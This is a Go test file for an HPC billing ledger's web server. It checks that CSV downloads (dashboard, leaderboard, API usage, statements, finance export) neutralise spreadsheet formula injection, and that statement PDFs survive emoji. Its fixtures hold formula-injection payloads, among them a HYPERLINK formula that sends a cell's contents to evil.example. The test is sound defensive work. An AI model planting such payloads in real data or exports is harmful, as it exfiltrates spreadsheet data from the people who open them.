package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/parsimony-hpc/parsimony/ledger"
)

// Names written to be run by a spreadsheet, and one with emoji and characters of
// other planes, for the CSV and PDF tests.
const (
	evilGroup   = `=HYPERLINK("http://evil.example/?"&A1,"Lab 🧬 𝔸")`
	evilLogin   = "@mallory"
	evilName    = "+Mallory 😀 Evil"
	evilCluster = "-2+3+cmd"
	evilJob     = "=1+1"
	evilReason  = "\t=SUM(A1:A9) credit 💶 for the outage 🎉"
)

// hostileGroup is a billable group named evilGroup whose PI is evilLogin (named
// evilName), with November 2026's usage on cluster evilCluster from a job
// named evilJob, rated at 0.01 a core-hour, and a credit of -2.50 for
// evilReason. It returns the group's slug and the PI's session.
func hostileGroup(t *testing.T, f fixture) (string, string) {
	t.Helper()
	ctx := context.Background()
	l := f.l
	u, err := l.UpsertUser(ctx, "t", ledger.User{Login: evilLogin, DisplayName: evilName})
	if err != nil {
		t.Fatal(err)
	}
	g, err := l.CreateGroup(ctx, "t", ledger.NewGroup{Kind: "lab", Slug: "evil", Name: evilGroup, Billable: true,
		PIUserID: u.ID, CostCentre: "-CC"})
	if err != nil {
		t.Fatal(err)
	}
	if err := l.AddMembership(ctx, "t", ledger.Membership{UserID: u.ID, GroupID: g.ID, Role: ledger.RolePI}); err != nil {
		t.Fatal(err)
	}
	if _, err := l.SetGroupMapping(ctx, "t", ledger.Mapping{Kind: ledger.KindSlurm, Scope: evilCluster, Identity: "evil", GroupID: g.ID}); err != nil {
		t.Fatal(err)
	}
	nov := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	if _, _, err := l.SetRate(ctx, "t", ledger.Rate{Resource: "cpu", Price: big.NewRat(1, 100), ValidFrom: nov}); err != nil {
		t.Fatal(err)
	}
	start := time.Date(2026, 11, 3, 9, 0, 0, 0, time.UTC)
	if _, err := l.Ingest(ctx, ledger.Batch{Records: []ledger.Record{{Source: "slurm", Cluster: evilCluster, ExternalID: evilJob,
		JobName: "🚀 align", Resource: "cpu", Start: start, End: start.Add(4 * time.Hour), Quantity: 32 * 3600, Allocated: 32 * 3600,
		Used: 8 * 3600, Account: "evil", User: evilLogin, Partition: "@gpu", QoS: "normal", State: "COMPLETED"}}}); err != nil {
		t.Fatal(err)
	}
	if _, err := l.AddAdjustment(ctx, "t", ledger.Adjustment{Period: nov, GroupID: g.ID, AmountMinor: -250, Reason: evilReason}); err != nil {
		t.Fatal(err)
	}
	if _, err := l.RatePeriod(ctx, "t", nov); err != nil {
		t.Fatal(err)
	}
	token, _ := f.session(t, evilLogin)
	return g.Slug, token
}

// readCSV parses a CSV download, failing the test on a malformed one.
func readCSV(t *testing.T, name, body string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil || len(recs) < 2 {
		t.Fatalf("%s: %v\n%s", name, err, body)
	}
	return recs
}

// noFormulas fails for each cell of recs, outside the numeric columns, that a
// spreadsheet would run as a formula.
func noFormulas(t *testing.T, name string, recs [][]string, numeric ...string) {
	t.Helper()
	isNumeric := map[int]bool{}
	for i, h := range recs[0] {
		for _, n := range numeric {
			if h == n {
				isNumeric[i] = true
			}
		}
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && !isNumeric[i] && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %q (column %d) can run as a formula", name, cell, i)
			}
		}
	}
}

// TestCSVDownloadsNeutraliseFormulas: every CSV the web app writes — the
// dashboard's and leaderboard's tables, the API's usage CSV, a statement's CSV
// and the finance export — quotes a group, user, cluster or job name or an
// adjustment reason that a spreadsheet would run as a formula, and leaves the
// numbers (a negative amount among them) as numbers.
func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
	f := newFixture(t)
	institution(t, f)
	slug, pi := hostileGroup(t, f)
	fin, _ := f.session(t, "fin")
	admin, _ := f.session(t, "admin")
	base := f.srv.URL + "/groups/" + slug
	for _, c := range []struct {
		name, url, token string
		numeric          []string
		want             []string // cells the CSV must hold, as written
	}{
		{"dashboard top jobs", base + "?period=month&csv=top-cost", pi, []string{"cost", "waste"},
			[]string{"'" + evilJob, "🚀 align", "'" + evilLogin, "'" + evilName, "'" + evilCluster, "'@gpu"}},
		{"dashboard efficiency", base + "?period=month&csv=efficiency", pi,
			[]string{"core_hours", "cpu_efficiency", "gpu_hours", "memory_efficiency", "jobs", "waste"},
			[]string{"'" + evilLogin, "'" + evilName, "32.0000"}},
		{"leaderboard", base + "/leaderboard?period=month&csv=members", admin,
			[]string{"rank", "spend", "previous_spend", "change", "core_hours", "gpu_hours", "storage_tb_months", "cpu_efficiency", "waste"},
			[]string{"'" + evilLogin, "'" + evilName, "32.0000"}},
		{"API usage by user", f.srv.URL + "/api/v1/groups/" + slug + "/usage?by=user&format=csv", pi, []string{"amount", "quantity"},
			[]string{"'" + evilLogin}},
		{"API usage by cluster", f.srv.URL + "/api/v1/groups/" + slug + "/usage?by=cluster&format=csv", pi, []string{"amount", "quantity"},
			[]string{"'" + evilCluster}},
		{"statement CSV", base + "/statements/2026-11/csv", pi, []string{"line_no", "quantity", "unit_price", "amount"},
			[]string{"'" + evilGroup, "'-CC", "'" + evilReason, "-2.50", "'" + evilCluster}},
		{"finance export", f.srv.URL + "/statements/2026-11/export.csv", fin, []string{"line_no", "quantity", "unit_price", "amount"},
			[]string{"'" + evilGroup, "'" + evilReason, "-2.50"}},
	} {
		resp, body := getAs(t, c.url, c.token)
		if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
			t.Errorf("%s: %d %s", c.name, resp.StatusCode, body)
			continue
		}
		recs := readCSV(t, c.name, body)
		noFormulas(t, c.name, recs, c.numeric...)
		cells := map[string]bool{}
		for _, rec := range recs {
			for _, cell := range rec {
				cells[cell] = true
			}
		}
		for _, w := range c.want {
			if !cells[w] {
				t.Errorf("%s: no cell %q in\n%s", c.name, w, body)
			}
		}
	}
}

// TestStatementPDFWithEmoji: the statement PDF of a group whose name, PI, job
// and adjustment reason hold emoji and characters of other planes is a PDF
// (it was a 500: fpdf panicked), and prints the rest of each name.
func TestStatementPDFWithEmoji(t *testing.T) {
	f := newFixture(t)
	institution(t, f)
	slug, pi := hostileGroup(t, f)
	resp, body := getAs(t, f.srv.URL+"/groups/"+slug+"/statements/2026-11/pdf", pi)
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/pdf" || !strings.HasPrefix(body, "%PDF-") {
		t.Fatalf("statement PDF: %d %s %.200q", resp.StatusCode, resp.Header.Get("Content-Type"), body)
	}
	bin, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Fatal("pdftotext is not installed: run scripts/install-deps.sh (or apt-get install poppler-utils)")
	}
	path := filepath.Join(t.TempDir(), "statement.pdf")
	if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(bin, "-enc", "UTF-8", path, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	text := string(bytes.Join(bytes.Fields(out), []byte(" ")))
	for _, want := range []string{"Lab � �", "credit � for the outage �", "-2.50"} {
		if !strings.Contains(text, want) {
			t.Errorf("the PDF's text lacks %q:\n%s", want, text)
		}
	}
}
